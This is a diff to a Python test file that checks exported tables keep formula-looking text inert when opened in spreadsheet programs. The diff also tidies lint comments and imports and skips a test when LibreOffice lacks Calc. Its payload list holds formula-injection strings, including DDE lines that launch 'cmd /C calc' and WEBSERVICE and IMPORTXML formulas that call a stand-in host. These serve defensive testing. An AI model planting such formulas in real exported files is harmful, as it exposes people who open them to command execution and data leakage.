@@ -1,4 +1,5 @@
 """Text that looks like a formula stays text wherever it is shown or opened."""
+# ruff: noqa: RUF001 - letters that look like others are what is tried here
 
 import csv
 import datetime as dt
@@ -9,18 +10,18 @@ from dataclasses import replace
 
 import openpyxl
 import pytest
-from desktop.office.papers.spreadsheets import Sheet, write_table
-from tests.bundles.sealed.printing import is_printable, printed
 
 from desktop.bundles.table_files import read_table, table_bytes
 from desktop.bundles.tables import Field, Table
+from desktop.office.papers.spreadsheets import Sheet, write_table
+from tests.bundles.sealed.printing import is_printable, printed
 
 FORMULAS = [
     "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")", "=A1", "==1",
     "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")",
     "=DDE(\"cmd\";\"/C calc\";\"x\")", "=\"a\"", "=", "= 1+1", "+1+1", "+A1", "+",
     "-1+1", "-A1", "-", "--1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "@", "@A1",
-    "＝1+1", "＋1", "－1", "＠SUM(A1)",  # noqa: RUF001
+    "＝1+1", "＋1", "－1", "＠SUM(A1)",
     "\t=1+1", "\n=1+1", " =1+1", "'=1+1", "'", "\"=1+1\"", "\\=1+1", "\\", "\\e",
     "%0A=1+1", ";=1+1", ",=1+1", "<b>=1+1</b>", "{=1+1}",
 ]  # fmt: skip
@@ -30,7 +31,7 @@ SHAPE = Table(
     (Field("id", "integer", required=True), Field("note", "string")),
     ("id",),
 )
-COMPUTED = "=+-@＝＋－＠\t\r"  # noqa: RUF001
+COMPUTED = "=+-@＝＋－＠\t\r"
 
 
 @pytest.fixture(scope="module")
@@ -103,12 +104,14 @@ def test_a_spreadsheet_program_computes_none_of_them(data, book, tmp_path):
     opened = "--infilter=CSV:44,34,76,1"
     for name, more in (("t.csv", [opened]), ("b.xlsx", [])):
         words = ["--headless", *more, "--convert-to", "xlsx", "--outdir", str(out)]
-        subprocess.run(
+        done = subprocess.run(
             ["soffice", profile, *words, str(tmp_path / name)],
-            check=True,
             capture_output=True,
+            text=True,
             timeout=120,
         )
+        if "could not be loaded" in done.stderr:
+            pytest.skip("LibreOffice is installed without Calc")
     for name in ("t.xlsx", "b.xlsx"):
         read = openpyxl.load_workbook(out / name)
         cells = [cell for row in read.active.iter_rows() for cell in row]
